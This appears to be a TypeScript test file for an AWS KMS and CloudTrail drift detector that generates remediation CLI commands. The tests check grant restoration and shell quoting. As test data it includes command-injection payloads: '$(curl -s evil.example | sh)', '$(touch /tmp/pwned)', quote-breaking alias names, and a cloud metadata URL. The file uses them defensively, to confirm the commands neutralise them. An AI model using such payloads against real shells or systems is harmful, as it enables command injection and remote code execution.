      `aws kms revoke-grant ${KEY} --grant-id f020fe75197b93991dc8491d6f19dd3cebb24ee62277a05914386724f3d48758`,
    ]);
  });

  /** A planned principal's grant (the sample, given RevokeGrant's grant id), then Bob revokes it. */
  const grantRevokedByBob = (grantSample: string, plannedPrincipal: string, edit: (r: CloudTrailRecord) => void) => {
    const grant = rec(grantSample, (r) => {
      (r.responseElements as Record<string, unknown>).grantId =
        'abcde1237f76e4ba7987489ac329fbfba6ad343d6f7075dbd1ef191f0120514a';
      edit(r);
    });
    const revoke = rec('RevokeGrant__awskmsdg__1', (r) => {
      r.userIdentity = { ...r.userIdentity, arn: 'arn:aws:iam::111122223333:user/Bob', userName: 'Bob' };
    });
    return remediationOf([grant, revoke], { plannedPrincipals: [plannedPrincipal] });
  };

  it('creates a revoked grant again from the grant it knew, no wider: with its constraints', () => {
    const commands = grantRevokedByBob('CreateGrant__awskmsdg__1', 'arn:aws:iam::111122223333:user/Alice', (r) => {
      (r.requestParameters as Record<string, unknown>).granteePrincipal = 'arn:aws:iam::111122223333:role/app';
    });
    expect(commands).toEqual([
      `aws kms create-grant ${KEY} --grantee-principal arn:aws:iam::111122223333:role/app --operations Encrypt RetireGrant --constraints '{"EncryptionContextSubset":{"ContextKey1":"Value1"}}'`,
    ]);
  });

  it('creates a revoked grant again no wider: with its SourceArn constraint, on behalf of that resource only', () => {
    // Prepare: the grant of the KMS Developer Guide's SourceArn example ("Using grant constraints"), to a role.
    const table = 'arn:aws:dynamodb:us-east-1:111122223333:table/ExampleTable';
    const commands = grantRevokedByBob('CreateGrant__awskmsdg__1', 'arn:aws:iam::111122223333:user/Alice', (r) => {
      const request = r.requestParameters as Record<string, unknown>;
      request.granteePrincipal = 'arn:aws:iam::111122223333:role/app';
      request.constraints = { encryptionContextSubset: { Department: 'IT' }, sourceArn: table };
    });
    expect(commands).toEqual([
      `aws kms create-grant ${KEY} --grantee-principal arn:aws:iam::111122223333:role/app --operations Encrypt RetireGrant --constraints '{"EncryptionContextSubset":{"Department":"IT"},"SourceArn":"${table}"}'`,
    ]);
  });

  it('creates a revoked grant to a service principal again as one: in --grantee-service-principal, not as an ARN', () => {
    // Prepare: a grant made the current way for CloudWatch Logs, on behalf of one log group (KMS requires the SourceArn).
    const logGroup = 'arn:aws:logs:us-west-2:111122223333:log-group:orders';
    const commands = grantRevokedByBob('CreateGrant__awskmsdg__1', 'arn:aws:iam::111122223333:user/Alice', (r) => {
      const request = r.requestParameters as Record<string, unknown>;
      delete request.granteePrincipal;
      request.granteeServicePrincipal = 'logs.amazonaws.com';
      request.retiringServicePrincipal = 'logs.amazonaws.com';
      request.constraints = { sourceArn: logGroup };
    });
    // Assess: --grantee-principal takes the ARN of an AWS principal; the service goes where the approved grant had it.
    expect(commands).toEqual([
      `aws kms create-grant ${KEY} --grantee-service-principal logs.amazonaws.com --operations Encrypt RetireGrant --constraints '{"SourceArn":"${logGroup}"}' --retiring-service-principal logs.amazonaws.com`,
    ]);
  });

  it('creates a revoked grant again with its retiring principal and name', () => {
    const commands = grantRevokedByBob('CreateGrant__awskmsdg__3', 'arn:aws:iam::111122223333:role/Admin', (r) => {
      (r.requestParameters as Record<string, unknown>).name = "books table's grant";
    });
    expect(commands).toEqual([
      `aws kms create-grant ${KEY} --grantee-principal dynamodb.us-west-2.amazonaws.com --operations Decrypt DescribeKey Encrypt GenerateDataKey ReEncryptFrom ReEncryptTo RetireGrant --constraints '{"EncryptionContextSubset":{"aws:dynamodb:tableName":"Books","aws:dynamodb:subscriberId":"111122223333"}}' --retiring-principal dynamodb.us-west-2.amazonaws.com --name 'books table'\\''s grant'`,
    ]);
  });

  it('creates a revoked grant again with a name the CLI would take for an option, passed in --cli-input-json', () => {
    // Prepare: grant names may contain `-`, `:` and `/`, so `-reader` and `file://reader` are both valid names.
    const commands = grantRevokedByBob('CreateGrant__awskmsdg__1', 'arn:aws:iam::111122223333:user/Alice', (r) => {
      (r.requestParameters as Record<string, unknown>).granteePrincipal = 'arn:aws:iam::111122223333:role/app';
      (r.requestParameters as Record<string, unknown>).name = '-reader';
    });
    // Assess: argparse would stop at `--name -reader` ("expected one argument"); the JSON's values are taken as they are.
    expect(commands).toEqual([
      `aws kms create-grant ${KEY} --grantee-principal arn:aws:iam::111122223333:role/app --operations Encrypt RetireGrant --constraints '{"EncryptionContextSubset":{"ContextKey1":"Value1"}}' --cli-input-json '{"Name":"-reader"}'`,
    ]);
  });

  it("resolves a revoked grant when its create-grant is run: the new grant id takes the approved one's place", () => {
    // Prepare: Alice's (planned) grant, revoked by Bob; then the remediation's create-grant, which KMS answers with
    // a new grant id.
    const approvedId = 'abcde1237f76e4ba7987489ac329fbfba6ad343d6f7075dbd1ef191f0120514a';
    const grant = (grantId: string, eventId: string) =>
      at(
        rec('CreateGrant__awskmsdg__1', (r) => {
          (r.responseElements as Record<string, unknown>).grantId = grantId;
        }),
        eventId,
      );
    const revoke = rec('RevokeGrant__awskmsdg__1', (r) => {
      r.userIdentity = { ...r.userIdentity, arn: 'arn:aws:iam::111122223333:user/Bob', userName: 'Bob' };
    });
    const restore = by(grant('0000restored0000', 'restore-1'), sessionIdentity('Admin', 'carol'));
    // Act
    const { last, store } = detect([grant(approvedId, 'grant-1'), revoke, restore], {
      plannedPrincipals: ['arn:aws:iam::111122223333:user/Alice'],
    });
    // Assess
    expect(last).toMatchObject({ status: 'resolved', severity: 'info', remediation: [] });
    expect(last.changes.grants?.back_to_baseline).toBe(true);
    const approvedGrants = Object.keys(store.baseline(KEY_ARN)?.attributes ?? {}).filter((p) => p.startsWith('grants'));
    expect(approvedGrants).toEqual([expect.stringContaining('0000restored0000')]);
  });

  it('still reports a grant created unlike any approved one that is gone', () => {
    const approvedId = 'abcde1237f76e4ba7987489ac329fbfba6ad343d6f7075dbd1ef191f0120514a';
    const grant = rec('CreateGrant__awskmsdg__1', (r) => {
      (r.responseElements as Record<string, unknown>).grantId = approvedId;
    });
    const revoke = rec('RevokeGrant__awskmsdg__1');
    const wider = at(
      by(
        rec('CreateGrant__awskmsdg__1', (r) => {
          (r.responseElements as Record<string, unknown>).grantId = '0000wider0000';
          (r.requestParameters as Record<string, unknown>).operations = ['Encrypt', 'Decrypt', 'RetireGrant'];
        }),
        sessionIdentity('Admin', 'carol'),
      ),
      'wider-1',
    );
    const { last } = detect([grant, revoke, wider], { plannedPrincipals: ['arn:aws:iam::111122223333:user/Alice'] });
    expect(last).toMatchObject({ status: 'drift', severity: 'error' });
  });

  it('recreates a deleted trail with its approved bucket, key, Regions and log file validation, restores its selectors, then starts its logging', () => {
    const deleted = at(onTrail(rec('DeleteTrail__stratus__1')), 'delete-1');
    expect(remediationOf([createTrail('org-audit', KEY_ARN), deleted])).toEqual([
      `aws cloudtrail create-trail --name org-audit --s3-bucket-name org-audit-logs --region us-west-2 --kms-key-id ${KEY_ARN} --is-multi-region-trail --enable-log-file-validation`,
      `aws cloudtrail put-event-selectors --trail-name ${TRAIL_ARN} --region us-west-2 --event-selectors '[{"ReadWriteType":"All","IncludeManagementEvents":true,"ExcludeManagementEventSources":[]}]'`,
      '# keydrift does not record the S3 key prefix, SNS topic, CloudWatch Logs delivery, insight selectors or tags of a trail: set again any the deleted trail had',
      `aws cloudtrail start-logging --name ${TRAIL_ARN} --region us-west-2`,
    ]);
  });

  it('says a deleted key cannot be restored, and nothing else, even with no baseline', () => {
    expect(remediationOf([onKey(rec('DeleteKey__awskmsdg__1'))])).toEqual([
      `# ${KEY_ARN} is deleted and cannot be restored: data encrypted under it can no longer be decrypted`,
    ]);
  });

  it('offers to delete an unwanted new key', () => {
    expect(remediationOf([createKey()])).toEqual([
      `# if this key is not wanted: aws kms schedule-key-deletion --key-id ${KEY_ARN} --region us-west-2 --pending-window-in-days 30`,
    ]);
  });

  it('offers to delete an unwanted new custom key store', () => {
    expect(remediationOf([rec('CreateCustomKeyStore__awskmsdg__1')])).toEqual([
      '# if this custom key store is not wanted: aws kms delete-custom-key-store --custom-key-store-id cks-1234567890abcdef0 --region us-east-1',
    ]);
  });

  it('offers nothing for planned, resolved and denied findings', () => {
    const { findings } = detect([
      onKey(rec('DisableKey__awskmsdg__1')),
      at(onKey(rec('EnableKey__awskmsdg__1')), 'enable-1'),
      rec('DisableKey__panther__1'),
    ]);
    expect(findings.map((f) => [f.status, f.remediation])).toEqual([
      ['drift', [`aws kms enable-key ${KEY}`]],
      ['resolved', []],
      ['denied', []],
    ]);
  });
});

describe('Remediation with hostile values', () => {
  it(`shell-quotes a tag value containing ${HOSTILE}`, () => {
    // Prepare: the approved value itself is hostile.
    const records = [
      createKey({ tags: { owner: HOSTILE } }),
      onKey(
        rec('TagResource__awskmsdg__1', (r) => {
          (r.requestParameters as Record<string, unknown>).tags = [{ tagKey: 'owner', tagValue: 'mallory' }];
        }),
      ),
    ];
    // Act
    const [command] = remediationOf(records);
    // Assess
    expect(JSON.parse(argAfter(command, '--tags'))).toEqual([{ TagKey: 'owner', TagValue: HOSTILE }]);
  });

  it('shell-quotes a hostile Region taken from the record', () => {
    // Prepare: the key is named by id, so its ARN (and the command's --region) comes from awsRegion.
    const region = 'us-east-1 $(touch /tmp/pwned)';
    const disable = rec('DisableKey__awskmsdg__1', (r) => {
      r.awsRegion = region;
      delete r.resources;
      (r.requestParameters as Record<string, unknown>).keyId = '1234abcd-12ab-34cd-56ef-1234567890ab';
    });
    // Act
    const [command] = remediationOf([disable]);
    // Assess: the shell sees the whole Region as one argument, and nothing runs.
    expect(argAfter(command, '--region')).toBe(region);
  });

  it('keeps a comment quoting a hostile Region on one line, so that pasting it runs nothing', () => {
    // Prepare: quotes do not hold in a comment; a line break in the Region would end it and start a command.
    const region = 'us-east-1\ntouch /tmp/pwned #';
    const scheduled = rec('ScheduleKeyDeletion__awskmsdg__1', (r) => {
      r.awsRegion = region;
      delete r.resources;
    });
    // Act
    const entries = remediationOf([scheduled]);
    // Assess: the comment (enable only if it was in use) is there, whole, on one line.
    const comments = entries.filter((entry) => entry.startsWith('#'));
    expect(comments).toEqual([
      expect.stringContaining("also run: aws kms enable-key --key-id 'arn:aws:kms:us-east-1 touch"),
    ]);
    expect(comments.filter((entry) => /[\n\r\u2028\u2029]/.test(entry))).toEqual([]);
  });

  it('keeps every comment inert where # starts no comment (an interactive zsh): record values quoted, no quote left open', () => {
    // Prepare: zsh takes `#` for a command unless `setopt interactivecomments`, expanding its words: a condition value
    // of an approved policy, the ARN of a deleted key or store, an approved deletion date would run; a quote of the
    // text's own would open a string the next line's quoted description closes, leaving that description to run.
    const payload = '$(touch /tmp/pwned)';
    const partner = policyWith({
      Sid: 'Partner trail',
      Effect: 'Allow',
      Principal: { Service: 'cloudtrail.amazonaws.com' },
      Action: 'kms:GenerateDataKey*',
      Resource: '*',
      Condition: { StringEquals: { 'aws:SourceAccount': payload } },
    });
    const forged = `${KEY_ARN}${payload}`;
    const comments = [
      ...remediationOf([createKey({ policy: partner }), putKeyPolicy(policyWith())]),
      ...remediationFor('key', forged, [{ path: 'key_state', current: 'Deleted', target: 'Enabled' }]),
      ...remediationFor('custom-key-store', `arn:aws:kms:us-west-2:111122223333:custom-key-store/${payload}`, [
        { path: 'custom_key_store', current: 'deleted', target: 'exists' },
      ]),
      ...remediationFor(
        'key',
        KEY_ARN,
        [{ path: 'key_state', current: 'Enabled', target: 'PendingDeletion' }],
        (path) => (path === 'deletion_date' ? payload : undefined),
      ),
      ...remediationFor('key', KEY_ARN, [{ path: 'key_state', current: 'Unavailable', target: 'Enabled' }]),
      ...remediationFor('trail', 'arn:aws:cloudtrail:eu-west-1:111122223333:trail/management', [
        { path: 'trail', current: 'deleted', target: 'exists' },
      ]),
    ].filter((entry) => entry.startsWith('#'));
    // Act: what zsh leaves unquoted in each.
    const unquoted = comments.map((line) => {
      let outside = '';
      for (let i = 0; i < line.length; i++) {
        if (line[i] === '\\') i++;
        else if (line[i] === "'") {
          i = line.indexOf("'", i + 1);
          if (i < 0) return `quote left open in ${line}`;
        } else outside += line[i];
      }
      return outside;
    });
    // Assess
    expect(comments).toHaveLength(8);
    // A placeholder reads as a word: `<id>` would be redirections, reading a file `id` and writing the next word.
    expect(unquoted.filter((text) => /[$`"|&<>]|quote left open/.test(text))).toEqual([]);
  });

  it('quotes a value starting with = (zsh expands =name to the path of a command)', () => {
    expect(shellQuote('=x')).toBe("'=x'");
    expect(shellQuote('a=b')).toBe('a=b');
  });

  it('shell-quotes a hostile tag key that has to be removed', () => {
    const tagKey = '$(curl -s evil.example | sh)';
    const records = [
      createKey(),
      onKey(
        rec('TagResource__awskmsdg__1', (r) => {
          (r.requestParameters as Record<string, unknown>).tags = [{ tagKey, tagValue: 'x' }];
        }),
      ),
    ];
    const [command] = remediationOf(records);
    expect(argAfter(command, '--tag-keys')).toBe(tagKey);
  });

  it('shell-quotes a hostile description that has to be restored', () => {
    const description = `payments" && echo 'pwned' > /tmp/x; #`;
    const created = createKey();
    (created.requestParameters as Record<string, unknown>).description = description;
    (created.responseElements as { keyMetadata: Record<string, unknown> }).keyMetadata.description = description;
    const [command] = remediationOf([created, onKey(rec('UpdateKeyDescription__awskmsdg__1'))]);
    expect(argAfter(command, '--description')).toBe(description);
  });

  it('shell-quotes a hostile alias name', () => {
    const alias = "alias/x';touch /tmp/pwned;'";
    const records = [
      createAlias(alias, OTHER_KEY_ID),
      rec('UpdateAlias__awskmsdg__1', (r) => {
        (r.requestParameters as Record<string, unknown>).aliasName = alias;
      }),
    ];
    const [command] = remediationOf(records);
    expect(argAfter(command, '--alias-name')).toBe(alias);
  });

  it('leaves plain values unquoted and quotes the empty string', () => {
    expect(shellQuote('arn:aws:kms:us-west-2:111122223333:key/1234abcd')).toBe(
      'arn:aws:kms:us-west-2:111122223333:key/1234abcd',
    );
    expect(shellQuote('')).toBe("''");
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
  });
});

describe('Remediation with values the AWS CLI would misread', () => {
  // argparse takes a value starting with `-` for an option, and the CLI replaces a value starting with file://,
  // fileb://, http:// or https:// (in any case) with the content of that file or URL.
  const ALIAS_ARN = 'arn:aws:kms:us-west-2:111122223333:alias/payments';

  /** TagResource__awskmsdg__1 adding the tag `tagKey` to a key created without tags. */
  const tagAdded = (tagKey: string) => [
    createKey(),
    onKey(
      rec('TagResource__awskmsdg__1', (r) => {
        (r.requestParameters as Record<string, unknown>).tags = [{ tagKey, tagValue: '1' }];
      }),
    ),
  ];

  it.each(['-x', 'file://owner', 'FILE://owner'])(
    'removes an added tag whose key is %s by passing the key in --cli-input-json',
    (tagKey) => {
      expect(remediationOf(tagAdded(tagKey))).toEqual([
        `aws kms untag-resource ${KEY} --cli-input-json ${shellQuote(JSON.stringify({ TagKeys: [tagKey] }))}`,
      ]);
    },
  );

  it('removes a tag whose key would be parsed as a JSON list, by passing the key in --cli-input-json', () => {
    // `--tag-keys '["a","b"]'` would remove the tags a and b instead.
    const [command] = remediationOf(tagAdded('["a","b"]'));
    expect(JSON.parse(argAfter(command, '--cli-input-json'))).toEqual({ TagKeys: ['["a","b"]'] });
  });

  it('puts back a description the CLI would fetch as a URL by passing it in --cli-input-json', () => {
    // Prepare
    const description = 'https://wiki.example.com/kms/payments';
    const created = createKey();
    (created.requestParameters as Record<string, unknown>).description = description;
    (created.responseElements as { keyMetadata: Record<string, unknown> }).keyMetadata.description = description;
    // Act
    const commands = remediationOf([created, onKey(rec('UpdateKeyDescription__awskmsdg__1'))]);
    // Assess
    expect(commands).toEqual([
      `aws kms update-key-description ${KEY} --cli-input-json '{"Description":"https://wiki.example.com/kms/payments"}'`,
    ]);
  });

  it('moves a trail back to an approved bucket and KMS key the CLI would misread, from --cli-input-json', () => {
    const commands = remediationFor('trail', TRAIL_ARN, [
      { path: 'kms_key_id', current: null, target: 'fileb://audit-key' },
      { path: 's3_bucket_name', current: 'attacker-bucket', target: '-audit-logs' },
    ]);
    expect(commands).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --cli-input-json '{"KmsKeyId":"fileb://audit-key"}'`,
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --cli-input-json '{"S3BucketName":"-audit-logs"}'`,
    ]);
  });

  it.each([
    '-x',
    '--debug',
    'file://owner',
    'fileb://owner',
    'HTTP://169.254.169.254/latest/meta-data',
    'https://x.test',
  ])('never leaves %s bare after an option: every command that sets it takes it from --cli-input-json', (value) => {
    // Prepare: the value in every place a command names a value from a record.
    const grant = { grantee_principal: value, retiring_principal: value, operations: [value], name: value };
    const trailApproved = (path: string) => ({ s3_bucket_name: value, kms_key_id: value })[path];
    // Act
    const commands = [
      ...remediationFor('key', KEY_ARN, [
        { path: `tags#${value}`, current: '1', target: null },
        { path: 'description', current: 'x', target: value },
        { path: `grants#${value}`, current: { operations: ['Decrypt'] }, target: null },
        { path: 'grants#approved', current: null, target: grant },
        { path: 'primary_region', current: 'us-east-1', target: value },
        { path: `replica_regions#${value}`, current: null, target: true },
      ]),
      ...remediationFor('alias', ALIAS_ARN, [{ path: 'target_key_id', current: KEY_ARN, target: value }]),
      ...remediationFor('trail', TRAIL_ARN, [
        { path: 'kms_key_id', current: null, target: value },
        { path: 's3_bucket_name', current: 'b', target: value },
      ]),
      ...remediationFor('trail', TRAIL_ARN, [{ path: 'trail', current: 'deleted', target: 'exists' }], trailApproved),
    ].filter((line) => !line.startsWith('#'));
    // Assess
    expect(commands).toHaveLength(10);
    for (const command of commands) {
      expect(shellWords(command)).not.toContain(value);
      expect(Object.values(JSON.parse(argAfter(command, '--cli-input-json'))).flat()).toContain(value);
    }
  });
});
